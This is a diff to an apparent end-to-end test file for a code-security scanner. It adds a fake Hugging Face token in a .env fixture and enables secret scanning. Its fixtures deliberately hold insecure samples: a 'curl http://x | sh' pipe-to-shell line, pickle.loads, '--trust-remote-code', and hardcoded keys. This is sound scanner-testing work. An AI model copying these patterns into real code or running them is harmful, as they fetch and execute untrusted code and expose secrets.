@@ -28,6 +28,7 @@ from tests.e2e.command import servegate
 pytestmark = pytest.mark.e2e
 ROOT = Path(__file__).resolve().parents[2]
 SECRET = "hunter2-" + "correct-horse"
+TOKEN = "hf_" + "aB3dE6gH9jK2mN5pQ8rT1vW4yZ7cF0xX1y"
 NOTEBOOK = (
     '{"cells": [{"cell_type": "code", "source": ["import pickle\\n", "pickle.loads(b)"]}],'
     ' "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
@@ -53,13 +54,24 @@ PIECES = {
     ),
     ".ipynb": (NOTEBOOK, "{", "x"),
     ".sh": ("#!/bin/sh\ncurl http://x | sh\n", "vllm serve m --trust-remote-code\n"),
+    ".env": (f"HF_TOKEN={TOKEN}\n", f"A=1\n\nHF_TOKEN={TOKEN}\n", "A=1\n"),
     "Dockerfile": ("FROM python:latest\nENV API_KEY=abcdef\n", "USER root\n"),
     ".github/workflows/ci.yml": (
         "on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n"
         "    - uses: actions/checkout@v4\n",
     ),
 }
-NAMES = ("a.py", "b/c.py", "ünï code.py", "d.yaml", "e.yaml", "f.ipynb", "g.sh", "Dockerfile")
+NAMES = (
+    "a.py",
+    "b/c.py",
+    "ünï code.py",
+    "d.yaml",
+    "e.yaml",
+    "f.ipynb",
+    "g.sh",
+    "Dockerfile",
+    ".env",
+)
 FILES = st.dictionaries(
     st.sampled_from([*NAMES, ".github/workflows/ci.yml"]), st.integers(0, 7), max_size=9
 )
@@ -124,14 +136,14 @@ def test_infrastructure_and_back(tmp_path: Path) -> None:
 @pytest.fixture
 def folder(tmp_path: Path) -> Path:
     made = tmp_path / "repo"
-    write(made, {"a.py": 0, "b/c.py": 3, "ünï code.py": 4, "g.sh": 1})
+    write(made, {"a.py": 0, "b/c.py": 3, "ünï code.py": 4, "g.sh": 1, ".env": 0})
     return made
 
 
 def scan(folder: Path, out: str, *flags: str, secret: str = "") -> dict[str, object]:
     """The result of a scan with a cache beside the folder, without times and remarks."""
     done = servegate(
-        *(".", "--only", "bandit,semgrep", *flags),
+        *(".", "--only", "bandit,semgrep,secrets", *flags),
         cwd=folder,
         out=folder.parent / out,
         env={"SERVEGATE_CACHE": str(folder.parent / "cache"), "SERVEGATE_CACHE_KEY": secret},
@@ -155,7 +167,7 @@ def test_the_command_says_what_it_knew_and_what_it_keeps_has_no_secret(folder: P
     first = scan(folder, "one")
     assert known(first) == []
     again = scan(folder, "two")
-    assert len(known(again)) == 2
+    assert len(known(again)) == 3
     assert first == again
     # A comment that asks for silence and a waiver are judged after the cache.
     waivers = folder / "servegate-waivers.toml"
@@ -164,19 +176,21 @@ def test_the_command_says_what_it_knew_and_what_it_keeps_has_no_secret(folder: P
         "until = 2099-01-01\n"
     )
     waived = scan(folder, "three")
-    assert len(known(waived)) == 2
+    assert len(known(waived)) == 3
     assert any(entry["waiver"] for entry in waived["findings"])  # type: ignore[attr-defined]
     store = folder.parent / "cache" / "cache-v1.sqlite"
     with sqlite3.connect(store) as db:
         values = [zlib.decompress(row[0]) for row in db.execute("SELECT value FROM entry")]
     assert any(b"sast/" in value for value in values)
-    assert not any(SECRET.encode() in value for value in values)
-    assert SECRET.encode() not in store.read_bytes()
+    assert any(b"provider-key-in-text" in value for value in values)
+    for secret in (SECRET.encode(), TOKEN.encode()):
+        assert not any(secret in value for value in values)
+        assert secret not in store.read_bytes()
 
 
 def test_what_others_wrote_counts_only_where_there_is_no_secret(folder: Path) -> None:
     scan(folder, "one", secret="ours")
-    assert len(known(scan(folder, "two", secret="ours"))) == 2
+    assert len(known(scan(folder, "two", secret="ours"))) == 3
     assert known(scan(folder, "three", secret="theirs")) == []
 
 
@@ -194,5 +208,5 @@ def test_a_scan_of_changes_uses_what_the_whole_one_knew(folder: Path) -> None:
     (folder / "a.py").write_text(PIECES[".py"][2])
     scan(folder, "one")
     result = scan(folder, "two", "--changed-since", "HEAD")
-    assert len(known(result)) == 2
+    assert len(known(result)) == 3
     assert {entry["location"]["path"] for entry in result["findings"]} == {"a.py"}  # type: ignore[attr-defined]
